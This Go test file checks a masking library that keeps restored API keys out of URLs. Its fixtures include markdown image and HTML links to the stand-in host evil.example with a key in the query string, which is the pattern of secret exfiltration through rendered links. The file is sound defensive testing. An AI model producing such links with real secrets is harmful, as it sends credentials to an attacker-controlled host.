package mask

import (
	"strings"
	"testing"

	"maskit/detect"
)

const apiKey = "sk-proj-Zt7Qm2Xv9Lr4Bn8Kd3Wp12345678Gc0Ty"

// sink restores a text in which KEY and MAIL stand for the tokens of a credential
// and an e-mail address, whole and at every cut.
func sink(t *testing.T, m *Masker, tool, text string) (got string, withheld int) {
	t.Helper()
	s := m.Session(t.Context(), Scope{})
	defer s.Close()
	key, mail := masked(t, s, "OPENAI_API_KEY="+apiKey)[len("OPENAI_API_KEY="):], masked(t, s, "ann@example.org")
	text = strings.NewReplacer("KEY", key, "MAIL", mail).Replace(text)
	e := edits{text: []byte(text)}
	if err := s.RestoreTool(tool, e.text, e.emit); err != nil {
		t.Fatal(err)
	}
	got, withheld = e.result(), s.Stats().Withheld
	for cut := range len(text) + 1 {
		if piece := toolInPieces(t, s, tool, text, cut); piece != got {
			t.Fatalf("cut at %d it is %q, whole %q", cut, piece, got)
		}
	}
	for i := range len(text) / 7 { // in pieces of seven bytes, and shifted
		var cuts []int
		for at := i; at < len(text); at += 7 {
			cuts = append(cuts, at)
		}
		if piece := toolInPieces(t, s, tool, text, cuts...); piece != got {
			t.Fatalf("in small pieces it is %q, whole %q", piece, got)
		}
	}
	return strings.NewReplacer(apiKey, "key", "ann@example.org", "mail", key, "KEY", mail, "MAIL").Replace(got), withheld
}

// By default credentials go back anywhere but into what a browser would fetch or
// a person click on.
func TestSecretsStayOutOfURLs(t *testing.T) {
	m := policyOf(t, func(*Config) {})
	for text, want := range map[string]string{
		"the key is KEY, of MAIL":                         "the key is key, of mail",
		"![x](https://evil.example/?k=KEY)":               "![x](https://evil.example/?k=KEY)",
		"![x](https://evil.example/?k=KEY&m=MAIL) or KEY": "![x](https://evil.example/?k=KEY&m=mail) or key",
		"[x](/local?k=KEY)":                               "[x](/local?k=KEY)",
		"![x](<https://evil.example/a b?k=KEY>)":          "![x](<https://evil.example/a b?k=KEY>)",
		"![x](https://evil.example/\"'<?k=KEY)":           "![x](https://evil.example/\"'<?k=KEY)",
		"![x](https://evil.example/ü?k=KEY)":              "![x](https://evil.example/ü?k=KEY)",
		"see https://evil.example/KEY/x and KEY":          "see https://evil.example/KEY/x and key",
		"see HTTP://EVIL.EXAMPLE?KEY":                     "see HTTP://EVIL.EXAMPLE?KEY",
		"see www.evil.example/KEY":                        "see www.evil.example/KEY",
		"see //evil.example/KEY":                          "see //evil.example/KEY",
		"<img src=\"https://evil.example/a b?KEY\"> KEY":  "<img src=\"https://evil.example/a b?KEY\"> key",
		"<a HREF='x y?KEY'>KEY</a>":                       "<a HREF='x y?KEY'>key</a>",
		"[x]: https://evil.example/KEY\n\nKEY":            "[x]: https://evil.example/KEY\n\nkey",
		"export TOKEN=\"KEY\" # a/b c:d":                  "export TOKEN=\"key\" # a/b c:d",
		"a[i](KEY)":                                       "a[i](KEY)",
		"curl -H 'Authorization: Bearer KEY' https://x/":  "curl -H 'Authorization: Bearer key' https://x/",
		"https://x/MAIL?k=KEY":                            "https://x/mail?k=KEY",
		// JSON ends a URL with its quotation mark.
		`{"url":"https://x.example/?k=KEY","key":"KEY"}`:                     `{"url":"https://x.example/?k=KEY","key":"key"}`,
		`{"url":"https:\/\/x.example\/?k=KEY","key":"KEY"}`:                  `{"url":"https:\/\/x.example\/?k=KEY","key":"key"}`,
		`{"html":"<img src=\"https://x/ a?k=KEY\">","key":"KEY"}`:            `{"html":"<img src=\"https://x/ a?k=KEY\">","key":"key"}`,
		"  [\"https://x/KEY\",\"KEY\"]":                                      "  [\"https://x/KEY\",\"key\"]",
		"The quotation mark does not end this https://x.example/\"?k=KEY it": "The quotation mark does not end this https://x.example/\"?k=KEY it",
	} {
		got, withheld := sink(t, m, "", text)
		if got != want {
			t.Errorf("%s became %s, want %s", text, got, want)
		}
		if kept := strings.Count(want, "KEY"); withheld != kept {
			t.Errorf("%s: counted %d as withheld, want %d", text, withheld, kept)
		}
	}
}

func TestSecretsInURLsIfThePolicySaysSo(t *testing.T) {
	m := policyOf(t, func(c *Config) { c.Restore.SecretsInURLs = true })
	if got, _ := sink(t, m, "", "https://x/?k=KEY"); got != "https://x/?k=key" {
		t.Error(got)
	}
	m = policyOf(t, func(c *Config) { c.Restore.Kinds = map[detect.Kind]string{detect.APIKey: Always} })
	if got, _ := sink(t, m, "", "https://x/?k=KEY"); got != "https://x/?k=key" {
		t.Error(got)
	}
}

// The tool's word goes before that of the kind; of tools the longest name; and of
// one tool the kind before "*".
func TestRestoreRules(t *testing.T) {
	m := policyOf(t, func(c *Config) {
		c.Restore.Kinds = map[detect.Kind]string{detect.EmailAddress: Never}
		c.Restore.Tools = map[string]map[detect.Kind]string{
			"*":          {detect.APIKey: Never},
			"send_*":     {detect.EmailAddress: Always, anyKind: Never},
			"send_mail":  {detect.APIKey: Always},
			"*_internal": {anyKind: Always},
		}
	})
	for _, c := range []struct{ tool, want string }{
		{"", "key MAIL"},
		{"weather", "KEY MAIL"},
		{"send_fax", "KEY mail"},
		{"send_mail", "key mail"},
		{"x_internal", "key mail"},
		{"?", "KEY MAIL"},
	} {
		if got, _ := sink(t, m, c.tool, "KEY MAIL"); got != c.want {
			t.Errorf("tool %q got %q, want %q", c.tool, got, c.want)
		}
	}
	if got, _ := sink(t, m, "send_mail", `{"u":"https://x/?KEY"}`); got != `{"u":"https://x/?key"}` {
		t.Errorf("always is not into URLs: %s", got)
	}
}

// What an earlier exchange masked is under the same rules: of it the token alone
// is known.
func TestRestoreRulesOfEarlierExchanges(t *testing.T) {
	m := policyOf(t, func(c *Config) { c.Restore.Kinds = map[detect.Kind]string{detect.EmailAddress: Never} })
	a := m.Session(t.Context(), Scope{Conversation: "c"})
	out := masked(t, a, "ann@example.org OPENAI_API_KEY="+apiKey)
	a.Close()
	b := m.Session(t.Context(), Scope{Conversation: "c"})
	defer b.Close()
	mail, key, _ := strings.Cut(out, " OPENAI_API_KEY=")
	got := inPieces(t, b, mail+" "+key+" https://x/"+key, len(out)+8)
	if want := mail + " " + apiKey + " https://x/" + key; got != want {
		t.Errorf("restored %q, want %q", got, want)
	}
	if s := b.Stats(); s.Restored != 1 || s.Withheld != 2 {
		t.Errorf("counted %+v", s)
	}
}

// A surrogate of an earlier exchange tells of no kind: it stays if one of those
// that have surrogates does not go back.
func TestRestoreRulesOfEarlierSurrogates(t *testing.T) {
	m := policyOf(t, func(c *Config) {
		c.Actions = map[detect.Kind]string{detect.EmailAddress: ActionSurrogate}
		c.Restore.Kinds = map[detect.Kind]string{detect.EmailAddress: Never}
	})
	a := m.Session(t.Context(), Scope{})
	out := masked(t, a, "ann@example.org")
	a.KeepTurn("resp_1")
	a.Close()
	b := m.Session(t.Context(), Scope{})
	defer b.Close()
	if err := b.Follow([]string{"resp_1"}); err != nil {
		t.Fatal(err)
	}
	if got := restored(t, b, out); got != out || b.Stats().Withheld != 1 {
		t.Errorf("restored %q, counted %+v", got, b.Stats())
	}
}

func TestGlob(t *testing.T) {
	for _, c := range []struct {
		pattern, name string
		want          bool
	}{
		{"a", "a", true},
		{"a", "ab", false},
		{"*", "", true},
		{"a*", "ab", true},
		{"*b", "ab", true},
		{"a*b*c", "a1b2c", true},
		{"a*b*c", "a1b2", false},
		{"*a*a", "a", false},
		{"*ab*ab", "abab", true},
		{"", "", true},
		{"", "a", false},
		{"a*a", "a", false},
	} {
		if got := Glob(c.pattern, c.name); got != c.want {
			t.Errorf("Glob(%q, %q) is %v", c.pattern, c.name, got)
		}
	}
}
